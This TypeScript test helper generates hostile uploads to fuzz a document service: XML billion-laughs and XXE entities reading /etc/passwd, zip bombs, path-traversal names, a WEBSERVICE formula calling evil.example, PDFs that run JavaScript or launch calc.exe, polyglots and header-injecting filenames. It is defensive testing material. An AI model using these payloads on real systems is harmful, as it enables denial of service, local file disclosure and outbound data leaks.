import { decisionDocx, sampleDecision } from '@thong-suot/document-forms';
import fc from 'fast-check';
import { strToU8, unzipSync } from 'fflate';
import { THEIRS } from './under-fire.js';
import { HOSTILE_TEXTS } from './documents.js';
import { zip } from './zip.js';

/** A file as a hostile sender gives it in. */
export interface HostileFile {
  readonly kind: string;
  readonly bytes: Uint8Array;
}

const MEGA = 1024 * 1024;
const DOCUMENT = 'word/document.xml';
const SHEET = 'xl/worksheets/sheet1.xml';

const ENTITIES = `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(20)}">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'bcdefghij'[at]} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`;

/** What a part of an Office file may be filled with. */
const XML_ATTACKS: Readonly<Record<string, (xml: string) => string>> = {
  'a billion laughs': (xml) => `${ENTITIES}${xml.replace(/<w:t[^>]*>|<t>/u, '$&&j;')}`,
  'a foreign entity': (xml) => `${ENTITIES}${xml.replace(/<w:t[^>]*>|<t>/u, '$&&xxe;')}`,
  'elements without end': () => '<a>'.repeat(200_000),
  'closing without opening': () => '</a>'.repeat(200_000),
  'one word of five megabytes': (xml) => xml.replace(/<w:t[^>]*>|<t>/u, `$&${'x'.repeat(5 * MEGA)}`),
  'one tag of attributes': (xml) => xml.replace('<w:body', `<w:body ${'a="b" '.repeat(100_000)}`),
  'an unclosed comment': (xml) => `${xml.slice(0, 200)}<!-- ${xml}`,
  'an unclosed CDATA': (xml) => `${xml.slice(0, 200)}<![CDATA[ ${xml}`,
  'angle brackets': () => '<'.repeat(500_000),
  'spaces in a tag': () => `<w:t${' '.repeat(300_000)}`,
  'signs that XML does not know': (xml) =>
    xml.replace(/<w:t[^>]*>|<t>/u, '$&&#0;&#xd800;&#x110000;\u0000\ufffe'),
  'numbers of signs without end': (xml) => xml.replace(/<w:t[^>]*>|<t>/u, `$&${'&#'.repeat(50_000)}`),
  nothing: () => '',
};

const NAMES = [
  '../../../../tmp/thong-suot-escaped',
  '/etc/passwd',
  'C:\\x',
  'word/../../x',
  'a'.repeat(5_000),
  '\u0000',
  '',
  '__proto__',
];

/** Word documents and workbooks, whole and hurt; `sound` is a workbook of ours. */
export function hostileFiles(sound: Uint8Array, word: Uint8Array): fc.Arbitrary<HostileFile> {
  const officeFile = fc.constantFrom<readonly [string, Uint8Array, string]>(
    ['docx', word, DOCUMENT],
    ['xlsx', sound, SHEET],
  );
  const inXml = fc
    .tuple(officeFile, fc.constantFrom(...Object.entries(XML_ATTACKS)))
    .chain(([[name, bytes, part], [attack, change]]) =>
      fc
        .constantFrom(
          part,
          '[Content_Types].xml',
          'xl/sharedStrings.xml',
          'xl/styles.xml',
          'word/header1.xml',
        )
        .map((where) =>
          once(`${name} with ${attack} in ${where}`, () =>
            rebuilt(bytes, (parts) => {
              const xml = new TextDecoder().decode(parts[where] ?? parts[part]);
              parts[where] = strToU8(change(xml));
            }),
          ),
        ),
    );
  const bombs = fc.tuple(officeFile, fc.constantFrom(5, 30, 66)).map(([[name, bytes, part], megabytes]) =>
    once(`${name} that grows to ${megabytes} MB`, () =>
      rebuilt(bytes, (parts) => {
        parts[part] = new Uint8Array(megabytes * MEGA).fill(32);
      }),
    ),
  );
  const many = fc.tuple(officeFile, fc.constantFrom(100, 5_100)).map(([[name, bytes], count]) =>
    once(`${name} of ${count} parts`, () =>
      rebuilt(bytes, (parts) => {
        for (let at = 0; at < count; at++) parts[`customXml/${at}.xml`] = new Uint8Array(1);
      }),
    ),
  );
  const paths = fc.tuple(officeFile, fc.constantFrom(...NAMES)).map(([[name, bytes], path]) =>
    once(`${name} with a part called ${path.slice(0, 40)}`, () =>
      rebuilt(bytes, (parts) => {
        parts[path] = strToU8('x');
      }),
    ),
  );
  const macros = officeFile.map(([name, bytes]) =>
    once(`${name} with macros, links and formulas`, () =>
      rebuilt(bytes, (parts) => {
        parts['xl/vbaProject.bin'] = strToU8('x');
        parts['word/vbaProject.bin'] = strToU8('x');
        parts['xl/externalLinks/externalLink1.xml'] = strToU8('<externalLink/>');
        const sheet = parts[SHEET];
        if (sheet !== undefined)
          parts[SHEET] = strToU8(
            new TextDecoder()
              .decode(sheet)
              .replace(
                '<sheetData>',
                '<sheetData><row r="9"><c r="A9"><f>WEBSERVICE("http://evil.example")</f></c></row>',
              ),
          );
      }),
    ),
  );
  const bitten = fc
    .tuple(
      fc.constantFrom(word, sound, strToU8(pdf())),
      fc.array(fc.tuple(fc.nat(), fc.nat(255)), { minLength: 1, maxLength: 30 }),
      fc.nat(4),
    )
    .map(([bytes, bites, how]) => {
      const hurt = Uint8Array.from(
        how === 0 ? bytes.subarray(0, (bites[0]?.[0] ?? 0) % bytes.length) : bytes,
      );
      // The end of an archive says where everything is: half of the bites go there.
      for (const [at, value] of bites)
        if (hurt.length > 0)
          hurt[at % 2 === 0 ? at % hurt.length : hurt.length - 1 - (at % Math.min(400, hurt.length))] = value;
      return { kind: 'a file with changed bytes', bytes: hurt };
    });
  const pdfs = fc
    .constantFrom(...Object.entries(PDF_ATTACKS))
    .map(([kind, text]) => ({ kind: `pdf ${kind}`, bytes: strToU8(text, true) }));
  const polyglots = fc
    .tuple(
      fc.constantFrom(
        '%PDF-1.7\n',
        '\x89PNG\r\n\x1a\n',
        '\xff\xd8\xff',
        'GIF89a',
        'PK\x03\x04',
        '<html>',
        'MZ',
        '#!/bin/sh\n',
        'Rar!',
        '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
      ),
      fc.constantFrom<Uint8Array>(word, sound, strToU8(pdf()), strToU8('<script>alert(1)</script>')),
    )
    .map(([head, rest]) => ({
      kind: `${JSON.stringify(head)} before another file`,
      bytes: Buffer.concat([strToU8(head, true), rest]),
    }));
  const noise = fc.uint8Array({ maxLength: 400 }).map((bytes) => ({ kind: 'noise', bytes }));
  return fc.oneof(
    { weight: 5, arbitrary: inXml },
    { weight: 1, arbitrary: bombs },
    { weight: 1, arbitrary: many },
    { weight: 2, arbitrary: paths },
    { weight: 1, arbitrary: macros },
    { weight: 5, arbitrary: bitten },
    { weight: 4, arbitrary: pdfs },
    { weight: 3, arbitrary: polyglots },
    { weight: 1, arbitrary: noise },
  );
}

/** A sound Word document. */
export const wordFile = (): Promise<Uint8Array> => decisionDocx(sampleDecision);

const made = new Map<string, Uint8Array>();

/** The same file again costs nothing. */
function once(kind: string, make: () => Uint8Array): HostileFile {
  const bytes = made.get(kind) ?? make();
  made.set(kind, bytes);
  return { kind, bytes };
}

function rebuilt(bytes: Uint8Array, change: (parts: Record<string, Uint8Array>) => void): Uint8Array {
  const parts = unzipSync(bytes) as Record<string, Uint8Array>;
  change(parts);
  return zip(parts);
}

/** A page of PDF; `more` replaces an object. */
function pdf(more: Readonly<Record<string, string>> = {}): string {
  const objects: Record<string, string> = {
    '1': '<< /Type /Catalog /Pages 2 0 R >>',
    '2': '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '3': '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>',
    '4': '<< /Length 44 >>\nstream\nBT /F 12 Tf 10 100 Td (Cong van) Tj ET      \nendstream',
    '5': '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...more,
  };
  const body = Object.entries(objects).map(([id, text]) => `${id} 0 obj\n${text}\nendobj\n`);
  return `%PDF-1.7\n${body.join('')}trailer << /Root 1 0 R /Size 6 >>\nstartxref\n0\n%%EOF`;
}

const PDF_ATTACKS: Readonly<Record<string, string>> = {
  sound: pdf(),
  'whose pages are their own parent': pdf({ '2': '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
  'whose page does not exist': pdf({ '2': '<< /Type /Pages /Kids [99 0 R] /Count 1 >>' }),
  'of a million pages': pdf({ '2': '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>' }),
  'of less than no pages': pdf({ '2': '<< /Type /Pages /Kids [] /Count -5 >>' }),
  'that runs a script': pdf({
    '1': '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
  }),
  'that starts a program': pdf({
    '1': '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>',
  }),
  'whose text says it is endless': pdf({ '4': '<< /Length 999999999 >>\nstream\nBT ET' }),
  'that draws itself': pdf({
    '4': '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream',
  }),
  'of brackets': pdf({ '3': `${'['.repeat(100_000)}` }),
  'of dictionaries in each other': pdf({ '3': `${'<< /A '.repeat(20_000)}` }),
  'whose length is itself': pdf({ '4': '<< /Length 4 0 R >>\nstream\nBT ET\nendstream' }),
  'that asks for a password': pdf().replace(
    '/Root 1 0 R',
    '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -1 >>',
  ),
  'without end': `%PDF-1.7\n${'1 0 obj\n'.repeat(50_000)}`,
  'with a table that leads in a circle': `${pdf().replace('startxref\n0', 'xref\n0 1\n0000000000 65535 f \ntrailer << /Prev 0 /Root 1 0 R >>\nstartxref\n9')}`,
  'with words of another house': pdf({
    '4': `<< /Length 60 >>\nstream\nBT /F 12 Tf (${THEIRS.length}) Tj ET\nendstream`,
  }),
  'of many filters': pdf({
    '4': `<< /Length 4 /Filter [${'/ASCIIHexDecode '.repeat(2_000)}] >>\nstream\n3131\nendstream`,
  }),
  'with a font that is none': pdf({
    '5': '<< /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>',
  }),
};

/** Names that an upload may carry. */
export const hostileNames: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    ...[
      'van-ban.docx',
      '../../../etc/passwd',
      '..\\..\\x.docx',
      'C:\\a.pdf',
      '/',
      '.',
      '..',
      '',
      ' ',
      'con',
      'a\u202excod.exe',
    ],
  ),
  fc.constantFrom(
    ...[
      '"; filename="x',
      'a\r\nset-cookie: x=y',
      'a%00.docx',
      `${'a'.repeat(3_000)}.docx`,
      '=1+1.xlsx',
      '<img src=x>.docx',
    ],
  ),
  fc.constantFrom(...HOSTILE_TEXTS.filter((text) => text.length < 4_000)),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** What stands around the file: the form, sound or not. */
export const forms: fc.Arbitrary<(file: Uint8Array, name: string) => { type: string; body: Uint8Array }> =
  fc.constantFrom(
    form('x', (name) => `form-data; name="file"; filename="${name.replace(/["\r\n]/gu, '_')}"`),
    form('x', (name) => `form-data; name="file"; filename="${name.replace(/["\r\n]/gu, '_')}"`),
    form('x', (name) => `form-data; name="file"; filename="${name.replace(/["\r\n]/gu, '_')}"`),
    form(
      'x',
      (name) =>
        `form-data; name="file"; filename*=UTF-8''${encodeURIComponent(name.replace(/[\ud800-\udfff]/gu, ''))}`,
    ),
    form('x', (name) => `form-data; name="__proto__"; filename="${name}"`),
    form('x', () => 'form-data; name="file"'),
    form('x', () => 'attachment'),
    form('x', (name) => `form-data; name="file"; filename="${name}"`, 'y'),
    form('', (name) => `form-data; name="file"; filename="${name}"`),
    form('x', (name) => `form-data; name="file"; filename="${name}"`, 'x', 30),
    form('x'.repeat(300), (name) => `form-data; name="file"; filename="${name}"`),
    cutShort(form('x', () => 'form-data; name="file"; filename="a.docx"')),
    (file) => ({ type: 'multipart/form-data', body: file }),
    (file) => ({ type: 'multipart/form-data; boundary=x', body: file }),
    (file) => ({ type: 'application/octet-stream', body: file }),
    (file) => ({ type: 'application/json', body: file.subarray(0, 1_000) }),
    () => ({ type: 'multipart/form-data; boundary=x', body: new Uint8Array() }),
    () => ({ type: 'multipart/form-data; boundary=x', body: strToU8('--x--\r\n') }),
  );

function form(boundary: string, disposition: (name: string) => string, written = boundary, fields = 0) {
  return (file: Uint8Array, name: string): { type: string; body: Uint8Array } => ({
    type: `multipart/form-data; boundary=${boundary}`,
    body: Buffer.concat([
      ...Array.from({ length: fields }, (_, at) =>
        strToU8(
          `--${written}\r\ncontent-disposition: form-data; name="f${at}"\r\n\r\n${'v'.repeat(2_000)}\r\n`,
        ),
      ),
      strToU8(`--${written}\r\ncontent-disposition: ${disposition(name)}\r\ncontent-type: text/html\r\n\r\n`),
      file,
      strToU8(`\r\n--${written}--\r\n`),
    ]),
  });
}

/** The form ends in the middle of its file, though its length is told. */
function cutShort(whole: ReturnType<typeof form>): ReturnType<typeof form> {
  return (file, name) => {
    const { type, body } = whole(file, name);
    return { type, body: body.subarray(0, Math.max(100, body.length - file.length / 2 - 20)) };
  };
}
